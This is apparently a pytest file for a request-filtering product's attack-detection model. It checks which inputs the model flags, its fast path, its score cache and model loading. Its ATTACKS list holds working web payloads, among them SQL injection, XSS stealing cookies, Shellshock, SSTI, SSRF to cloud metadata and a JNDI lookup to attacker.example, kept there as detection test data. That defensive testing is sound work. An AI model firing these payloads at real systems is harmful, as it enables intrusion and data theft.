"""The shipped attack-likelihood model: what it flags, what it leaves alone."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vaultgate.detect.base import Value
from vaultgate.errors import PolicyError
from vaultgate.ml import features
from vaultgate.ml.model import (
    Model,
    ScoreCache,
    certainly_clean,
    load_model,
    save_model,
)

MODEL = load_model()

ATTACKS = [
    ("query", "1' or '1'='1"),
    ("query", "-1 union select username,password from users--"),
    ("json", "'; drop table accounts;--"),
    ("query", "<img src=x onerror=alert(document.cookie)>"),
    ("form", '"><svg/onload=confirm(1)>'),
    ("query", "; cat /etc/passwd"),
    ("query", "../../../../etc/passwd"),
    ("header", "${jndi:ldap://attacker.example/a}"),
    ("json", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("query", "*)(uid=*))(|(uid=*"),
    ("query", "http://169.254.169.254/latest/meta-data/"),
    ("query", '<!--#exec cmd="ls"-->'),
    ("header", "() { :; }; /bin/bash -c 'id'"),
]
BENIGN = [
    ("json", "O'Reilly"),
    ("json", "Invoice 2026-118 for consulting services, thank you!"),
    ("json", "Müller & Söhne GmbH"),
    ("json", "Please select a payee before you pay"),
    ("json", "<3 happy birthday!"),
    ("query", "1=1 split of the bill"),
    ("json", "drop-off fee + parking"),
    ("header", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"),
    ("json", "Calle Mayor 12, 3º 2ª"),
    ("json", "it's done, don't worry"),
    ("query", "rock'n'roll"),
    ("json", "DE89 3704 0044 0532 0130 00"),
    ("json", "€1,250.00"),
    ("json", "Where can I select my card design?"),
]


@pytest.mark.parametrize(("kind", "text"), ATTACKS)
def test_attacks_are_likely(kind: str, text: str) -> None:
    assessment = MODEL.assess([Value(kind, "x", text)], frozenset({text}))
    assert assessment.probability >= MODEL.threshold, text


@pytest.mark.parametrize(("kind", "text"), BENIGN)
def test_benign_values_are_not(kind: str, text: str) -> None:
    assessment = MODEL.assess([Value(kind, "x", text)], frozenset({text}))
    assert assessment.probability < MODEL.threshold, text


def test_assess_names_the_worst_value_and_skips_clean_ones() -> None:
    values = [
        Value("query", "page", "2"),
        Value("query", "q", "coffee shops"),
        Value("query", "id", "1' or '1'='1"),
        Value("json", "$.memo", "Dinner @ Luigi's (split 3 ways)"),
    ]
    assessment = MODEL.assess(values, frozenset(v.text for v in values))
    assert assessment.value == values[2]
    assert assessment.scored == 2


# The alphabet of the fast path, with words attacks are made of.
_CLEAN_WORDS = st.sampled_from(
    ["union", "select", "from", "users", "or", "and", "sleep", "script", "alert"]
    + ["etc", "passwd", "admin", "drop", "table", "1", "0", "jndi", "ldap", "exec"]
)
_CLEAN_TEXT = st.lists(
    st.one_of(_CLEAN_WORDS, st.text(alphabet=" .,-_@:abcXYZ019éß", max_size=8)),
    min_size=1,
    max_size=12,
).map(lambda parts: "".join(parts))


@settings(max_examples=300, deadline=None)
@given(_CLEAN_TEXT)
def test_the_fast_path_hides_nothing_the_model_would_flag(text: str) -> None:
    """What the fast path skips, the model would not have flagged anyway."""
    if not certainly_clean(text, "query"):
        return
    (probability,) = MODEL.probabilities([text], [False])
    assert probability < MODEL.threshold


@pytest.mark.parametrize(
    ("text", "kind", "clean"),
    [
        ("Jane Doe", "json", True),
        ("jane.doe@example.com", "json", True),
        ("2026-12-04T10:00:00", "query", True),
        ("/api/v1/accounts/42", "path", True),
        ("/api/v1/accounts/42", "query", False),  # a path in a field: scored
        ("/a/../etc/passwd", "path", False),
        ("O'Reilly", "json", False),
        ("a<b", "json", False),
        ("line\nbreak", "json", False),
    ],
)
def test_certainly_clean(text: str, kind: str, clean: bool) -> None:
    assert certainly_clean(text, kind) is clean


def test_a_model_of_other_features_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "m.npz"
    weights = np.zeros(features.WIDTH + 1)
    save_model(path, Model(weights, 0.0, 0.9, 0.99, "x"), {})
    with np.load(path) as data:
        stored = dict(data)
    stored["feature_version"] = np.int64(features.FEATURE_VERSION + 1)
    np.savez(path, **stored)
    with pytest.raises(PolicyError, match="features v"):
        load_model(str(path))


def test_a_file_that_is_no_model_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "junk.npz"
    path.write_bytes(b"not a model")
    with pytest.raises(PolicyError, match="vaultgate train"):
        load_model(str(path))


def test_the_score_cache_gives_the_same_answers_and_stays_bounded() -> None:
    cache = ScoreCache(8)
    values = [Value("json", f"$.v{i}", f"note {i}; it's fine") for i in range(30)]
    values.append(Value("query", "q", "1' or '1'='1"))
    plain = MODEL.assess(values, frozenset())
    for _ in range(2):
        cached = MODEL.assess(values, frozenset(), cache)
        assert cached.value == plain.value
        assert cached.probability == pytest.approx(plain.probability)
    assert len(cache.known) <= 8 and len(cache.seen) <= 8
    long_text = "x'" * 200  # past MAX_CACHED_TEXT: scored, never kept
    MODEL.assess([Value("json", "$.t", long_text)], frozenset(), cache)
    assert all(len(text) <= 256 for text, _ in cache.known)


def test_the_score_cache_keeps_verdicts_apart_by_kind_and_decoding() -> None:
    cache = ScoreCache(64)
    # A path of clean segments is certainly clean; the same text in a JSON
    # field is not (a slash is outside a field's clean alphabet).
    assert MODEL.assess([Value("path", "path", "/a/b")], frozenset(), cache).scored == 0
    field = MODEL.assess([Value("json", "$.a", "/a/b")], frozenset(), cache)
    assert field.scored == 1
    # Whether a text was decoded is a feature: cached apart, scored apart.
    attack = Value("query", "q", "1' or '1'='1")
    decoded = MODEL.assess([attack], frozenset(), cache)
    sent = MODEL.assess([attack], frozenset([attack.text]), cache)
    assert decoded.probability == pytest.approx(
        MODEL.assess([attack], frozenset()).probability
    )
    assert sent.probability == pytest.approx(
        MODEL.assess([attack], frozenset([attack.text])).probability
    )
    assert decoded.probability != sent.probability
